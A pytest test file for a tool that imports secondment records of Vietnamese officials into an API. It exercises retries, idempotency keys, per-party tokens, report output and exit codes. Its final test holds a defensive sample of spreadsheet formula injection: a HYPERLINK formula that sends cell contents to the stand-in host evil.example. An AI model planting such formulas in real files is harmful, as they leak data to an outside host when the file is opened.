"""The import's use of the API, against a small fake of it: look-ups before writes, retries,
refusals, tokens per party, the report file and the command's exit codes."""

import csv
import json
import uuid
from pathlib import Path
from typing import Any

import httpx
import pytest

from services.importer import Outcome, SourceRow, Step, import_rows
from services.importer import importer as importer_module
from services.importer.__main__ import main
from services.importer.auth import Role, StaticTokens
from services.importer.columns import COLUMNS
from services.importer.outcomes import ImportReport, Refusal, RowResult
from services.importer.report import write_report

CELLS: dict[str, Any] = {
    "host_unit": "SO_Y_TE", "sector": "HEALTH", "position_title": "Phó Trưởng phòng",
    "positions": "1", "min_rank": "PHO_TRUONG_PHONG", "desired_start": "2024-09-01",
    "duration_months": "6", "raised_on": "2024-08-01", "official_id": "NG-1",
    "full_name": "Alăng Thị Hoa", "gender": "F", "birth_date": "1985-03-02",
    "ethnicity": "CO_TU", "service_category": "CIVIL_SERVANT",
    "position_rank": "PHO_TRUONG_PHONG", "home_unit": "NAM_GIANG",
    "start_date": "2024-09-01", "planned_end_date": "2025-02-28",
    "decision_number": "1/QĐ", "decision_date": "2024-08-20",
    "received_on": "2024-09-02", "assigned_role": "Y tế dự phòng",
}  # fmt: skip


def _row(number: int = 2, **changes: Any) -> SourceRow:
    cells = CELLS | changes
    return SourceRow(number, cells, {k: str(v or "") for k, v in cells.items()})


class FakeApi:
    """Needs and secondments in memory; records every request."""

    def __init__(self) -> None:
        self.needs: list[dict[str, Any]] = []
        self.secondments: list[dict[str, Any]] = []
        self.requests: list[httpx.Request] = []
        self.not_yet_known = 0
        self.refuse: dict[str, httpx.Response] = {}

    def handler(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        path, method = request.url.path, request.method
        if f"{method} {path}" in self.refuse:
            return self.refuse[f"{method} {path}"]
        body = json.loads(request.content) if request.content else {}
        if path == "/api/needs" and method == "GET":
            return httpx.Response(200, json={"items": self.needs, "next_cursor": None})
        if path == "/api/needs":
            need = body | {"need_id": str(uuid.uuid4()), "status": "OPEN"}
            self.needs.append(need)
            return httpx.Response(201, json=need)
        if path == "/api/secondments" and method == "GET":
            official = request.url.params["official_id"]
            items = [s for s in self.secondments if s["official"]["official_id"] == official]
            return httpx.Response(200, json={"items": items, "next_cursor": None})
        if path == "/api/secondments":
            if self.not_yet_known:
                self.not_yet_known -= 1
                return httpx.Response(
                    503,
                    json={"rule": "NEED_NOT_YET_KNOWN", "detail": "retry"},
                    headers={"Retry-After": "2"},
                )
            official = body["official"] | {"home_unit": {"code": body["official"]["home_unit"]}}
            secondment = body | {
                "secondment_id": str(uuid.uuid4()), "status": "ACTIVE", "official": official,
                "host_unit": {"code": "SO_Y_TE"}, "reception": None, "ending": None,
                "post_arrangement": None,
            }  # fmt: skip
            self.secondments.append(secondment)
            return httpx.Response(201, json=secondment)
        secondment_id, action = path.split("/")[3:5]
        secondment = next(s for s in self.secondments if s["secondment_id"] == secondment_id)
        secondment[action.replace("-", "_")] = body
        return httpx.Response(200, json=secondment)

    def client(self) -> httpx.AsyncClient:
        return httpx.AsyncClient(transport=httpx.MockTransport(self.handler), base_url="http://x")

    def writes(self) -> list[str]:
        return [f"{r.method} {r.url.path}" for r in self.requests if r.method == "POST"]


async def test_a_second_run_finds_everything_and_writes_nothing() -> None:
    api = FakeApi()
    rows = [_row(2), _row(3, official_id="NG-2", decision_number="2/QĐ")]
    async with api.client() as client:
        first = await import_rows(rows, client)
        writes = len(api.writes())
        second = await import_rows(rows, client)
    assert [r.outcome for r in first.results] == [Outcome.IMPORTED] * 2
    assert first.results[0].recorded == [Step.NEED, Step.SECONDMENT, Step.RECEPTION]
    assert first.results[1].recorded == [Step.SECONDMENT, Step.RECEPTION]  # the same need
    assert len(api.needs) == 1
    assert [r.outcome for r in second.results] == [Outcome.PRESENT] * 2
    assert second.results[0].found == [Step.NEED, Step.SECONDMENT, Step.RECEPTION]
    assert len(api.writes()) == writes


async def test_steps_missing_from_an_earlier_run_are_completed() -> None:
    api = FakeApi()
    async with api.client() as client:
        await import_rows([_row()], client)
        ending: dict[str, Any] = {
            "ended_on": "2025-02-28", "end_reason": "COMPLETED", "rating": "GOOD",
            "end_decision_number": "9/QĐ", "end_decision_date": "2025-02-20",
        }  # fmt: skip
        again = await import_rows([_row(**ending)], client)
    (result,) = again.results
    assert result.outcome is Outcome.IMPORTED
    assert result.found == [Step.NEED, Step.SECONDMENT, Step.RECEPTION]
    assert result.recorded == [Step.ENDING]


async def test_need_not_yet_known_is_retried_quickly() -> None:
    api = FakeApi()
    api.not_yet_known = 3
    async with api.client() as client:
        report = await import_rows([_row()], client)
    assert report.results[0].outcome is Outcome.IMPORTED
    assert report.seconds < 1.5  # not three times Retry-After: 2


async def test_a_refusal_stops_its_row_and_names_step_rule_and_message() -> None:
    api = FakeApi()
    api.refuse["POST /api/secondments"] = httpx.Response(
        422,
        json={
            "rule": "INVALID_REQUEST", "title": "Yêu cầu không hợp lệ", "detail": "bad body",
            "errors": [{"loc": ["body", "official", "gender"], "msg": "Input should be 'F'"}],
        },
    )  # fmt: skip
    async with api.client() as client:
        report = await import_rows([_row(), _row(3, start_date="ngày 1")], client)
    first, second = report.results
    assert first.refusal is not None
    assert second.refusal is not None
    assert (first.refusal.step, first.refusal.rule) == (Step.SECONDMENT, "INVALID_REQUEST")
    assert "official.gender: Input should be 'F'" in first.refusal.message
    assert first.recorded == [Step.NEED]
    assert (second.refusal.step, second.refusal.rule) == (Step.READ, "INVALID_REQUEST")
    assert "POST /api/secondments/" not in " ".join(api.writes())


async def test_rows_sharing_a_need_ref_must_agree_on_the_need() -> None:
    api = FakeApi()
    rows = [_row(2, need_ref="N1"), _row(3, need_ref="N1", positions="3", official_id="NG-2")]
    async with api.client() as client:
        report = await import_rows(rows, client)
    refusal = report.results[1].refusal
    assert refusal is not None
    assert "need_ref N1: the need's columns differ from row 2" in refusal.message


async def test_each_step_carries_the_token_of_its_party() -> None:
    api = FakeApi()
    tokens = StaticTokens({"SO_Y_TE": "host", "NAM_GIANG": "home", "*": "reader"})
    async with api.client() as client:
        await import_rows([_row()], client, tokens=tokens)
    used = {
        f"{r.method} {r.url.path.rsplit('/', 1)[-1]}": r.headers["authorization"]
        for r in api.requests
    }
    assert used == {
        "GET needs": "Bearer reader", "POST needs": "Bearer host",
        "GET secondments": "Bearer home", "POST secondments": "Bearer home",
        "POST reception": "Bearer host",
    }  # fmt: skip
    assert StaticTokens({"SO_Y_TE": "t"}).token(Role.READER, "SO_Y_TE") is None


async def test_a_missing_token_refuses_the_row_and_a_refused_token_stops_the_run() -> None:
    api = FakeApi()
    async with api.client() as client:
        report = await import_rows([_row()], client, tokens=StaticTokens({"SO_Y_TE": "t"}))
        refusal = report.results[0].refusal
        assert refusal is not None
        assert (refusal.step, refusal.rule) == (Step.SECONDMENT, "UNAUTHENTICATED")
        api.refuse["GET /api/needs"] = httpx.Response(401, json={"rule": "UNAUTHENTICATED"})
        stopped = await import_rows([_row(), _row(3)], client, concurrency=1)
    assert stopped.results == []
    assert stopped.aborted is not None
    assert "--token" in stopped.aborted


@pytest.fixture
def quick_retries(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(importer_module, "TRANSPORT_RETRIES_S", (0.0, 0.0))


@pytest.mark.usefixtures("quick_retries")
async def test_an_unreachable_api_stops_the_run() -> None:
    calls: list[httpx.Request] = []

    def down(request: httpx.Request) -> httpx.Response:
        calls.append(request)
        raise httpx.ConnectError("connection refused", request=request)

    async with httpx.AsyncClient(transport=httpx.MockTransport(down)) as client:
        report = await import_rows([_row()], client)
    assert report.aborted is not None
    assert "connection refused" in report.aborted
    assert len(calls) == 3  # tried, then retried twice


@pytest.mark.usefixtures("quick_retries")
async def test_a_write_whose_answer_is_lost_is_retried_with_the_same_idempotency_key() -> None:
    api = FakeApi()
    lost: list[httpx.Request] = []

    def flaky(request: httpx.Request) -> httpx.Response:
        response = api.handler(request)
        if request.url.path == "/api/secondments" and request.method == "POST" and not lost:
            lost.append(request)
            raise httpx.ReadTimeout("answer lost", request=request)
        return response

    async with httpx.AsyncClient(transport=httpx.MockTransport(flaky), base_url="http://x") as c:
        report = await import_rows([_row()], c)
    assert report.results[0].outcome is Outcome.IMPORTED
    posts = [r for r in api.requests if r.method == "POST" and r.url.path == "/api/secondments"]
    assert len(posts) == 2
    assert posts[0].headers["idempotency-key"] == posts[1].headers["idempotency-key"]
    keys = {r.headers["idempotency-key"] for r in api.requests if r.method == "POST"}
    assert len(keys) == 3  # need, secondment, reception: one key each


def test_the_report_is_utf8_with_bom_and_keeps_the_row_as_written(tmp_path: Path) -> None:
    row = _row(5, home_unit="TAM_KY")
    report = ImportReport()
    report.results.append(
        RowResult(
            row=row,
            outcome=Outcome.REFUSED,
            refusal=Refusal(Step.SECONDMENT, "HOME_UNIT_NOT_MOUNTAINOUS", "Cơ quan cử …"),
        )
    )
    path = tmp_path / "refused.csv"
    write_report(report, tuple(row.original), path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as f:
        header, line = list(csv.reader(f))
    assert header[:4] == ["row", "step", "rule", "message"]
    record = dict(zip(header, line, strict=True))
    assert record["row"] == "5"
    assert record["rule"] == "HOME_UNIT_NOT_MOUNTAINOUS"
    assert record["home_unit"] == "TAM_KY"
    assert record["full_name"] == "Alăng Thị Hoa"


def test_the_command_exits_2_naming_the_missing_columns(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "a.csv"
    path.write_text("Đơn vị tiếp nhận,Lĩnh vực\nSO_Y_TE,HEALTH\n", encoding="utf-8")
    assert main([str(path)]) == 2
    err = capsys.readouterr().err
    assert "official_id (Mã cán bộ)" in err
    assert main([str(tmp_path / "none.xlsx")]) == 2
    assert "no such file" in capsys.readouterr().err


def test_the_command_exits_1_when_rows_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "a.csv"
    names = [c.name for c in COLUMNS]
    cells = CELLS | {"start_date": "31/02/2025"}
    path.write_text(
        ",".join(names) + "\n" + ",".join(str(cells.get(n, "")) for n in names) + "\n",
        encoding="utf-8",
    )
    report = tmp_path / "refused.csv"
    code = main([str(path), "--base-url", "http://127.0.0.1:9", "--report", str(report)])
    assert code == 1
    out = capsys.readouterr().out
    assert "Bị từ chối / refused:               1" in out
    assert "INVALID_REQUEST: 1" in out
    assert "start_date" in report.read_text(encoding="utf-8-sig")


@pytest.mark.usefixtures("quick_retries")
def test_the_command_exits_3_when_the_api_cannot_be_reached(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "a.csv"
    names = [c.name for c in COLUMNS]
    path.write_text(
        ",".join(names) + "\n" + ",".join(str(CELLS.get(n, "")) for n in names) + "\n",
        encoding="utf-8",
    )
    assert main([str(path), "--base-url", "http://127.0.0.1:9"]) == 3
    assert "cannot reach the API at http://127.0.0.1:9/api/needs" in capsys.readouterr().out
    assert main([str(path), "--report", str(tmp_path / "no" / "r.csv")]) == 2


def test_the_report_neutralises_cells_that_a_spreadsheet_would_run(tmp_path: Path) -> None:
    """The refused rows come from someone else's file: opening the report must not run them."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'
    row = _row(7, position_title=evil, decision_number="+1-2")
    report = ImportReport()
    report.results.append(
        RowResult(
            row=row,
            outcome=Outcome.REFUSED,
            refusal=Refusal(Step.NEED, "INVALID_REQUEST", "@SUM(1,2) is not a title"),
        )
    )
    path = tmp_path / "refused.csv"
    write_report(report, tuple(row.original), path)
    with path.open(encoding="utf-8-sig", newline="") as f:
        header, line = list(csv.reader(f))
    record = dict(zip(header, line, strict=True))
    assert record["position_title"] == "'" + evil
    assert record["decision_number"] == "'+1-2"
    assert record["message"] == "'@SUM(1,2) is not a title"
    assert record["row"] == "7"
